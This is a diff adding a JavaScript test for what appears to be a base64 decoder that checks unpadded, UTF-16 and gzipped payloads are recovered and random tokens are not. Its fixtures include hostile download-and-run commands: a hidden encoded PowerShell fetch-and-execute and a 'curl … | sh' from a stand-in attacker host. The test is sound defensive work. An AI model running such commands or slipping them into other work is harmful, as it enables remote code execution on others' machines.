@@ -765,3 +765,38 @@ test("random bytes and runs of one letter are not UTF-16 text: only high bytes o
   }
   assert.equal(utf16, 0);
 });
+
+test("base64 without its padding (stripped by Python, JWT, base64url writers, or a trimmed log field) decodes when it reads as text or an archive", () => {
+  const script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')";
+  const enc = Buffer.from(script, "utf16le").toString("base64");
+  assert.match(enc, /=$/);
+  const r = base64.unpack(`powershell -w hidden -enc ${enc.replace(/=+$/, "")}`);
+  assert.equal(r.items.length, 1);
+  assert.equal(r.items[0].encodingType, "utf-16");
+  assert.equal(r.items[0].decodedString, script);
+  // 4n+3 characters (one '=' stripped), and a short '=' (4n+2 with one).
+  const text = "curl -s http://evil.example/stage2.sh | sh #";
+  const t = b64(text);
+  assert.match(t, /[^=]=$/);
+  assert.equal(base64.unpack(`sh -c ${t.slice(0, -1)}`).items[0]?.decodedString, text);
+  const two = b64(`${text}xy`);
+  assert.match(two, /==$/);
+  assert.equal(base64.unpack(`x ${two.slice(0, -1)}`).items[0]?.decodedString, `${text}xy`);
+  // A gzip whose padding is gone is still unpacked.
+  // (the first of three lengths whose gzip needs padding)
+  const payload = [script, `${script} `, `${script}  `].find((p) => b64(zlib.gzipSync(Buffer.from(p))).endsWith("=")) ?? "";
+  const gz = b64(zlib.gzipSync(Buffer.from(payload)));
+  const g = base64.unpack(`echo ${gz.replace(/=+$/, "")}`).items[0];
+  assert.equal(g?.fileType, "gz");
+  assert.equal(g?.decodedString, payload);
+  // Long alphanumeric tokens that are no base64 (ids, file names: 4n+2 and 4n+3 characters) stay as written.
+  const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
+  let decoded = 0;
+  for (let k = 0; k < 3000; k++) {
+    const n = 30 + 4 * (k % 9) + (k % 2); // 30, 31, 34, 35, … 63: 4n+2 and 4n+3
+    const digest = Buffer.concat([crypto.createHash("sha512").update(`a${k}`).digest(), crypto.createHash("sha512").update(`b${k}`).digest()]);
+    const token = Array.from({ length: n }, (_, i) => alphabet[digest[i] % alphabet.length]).join("");
+    if (base64.unpack(`C:\\Temp\\${token}.tmp`).items.length) decoded++;
+  }
+  assert.equal(decoded, 0);
+});
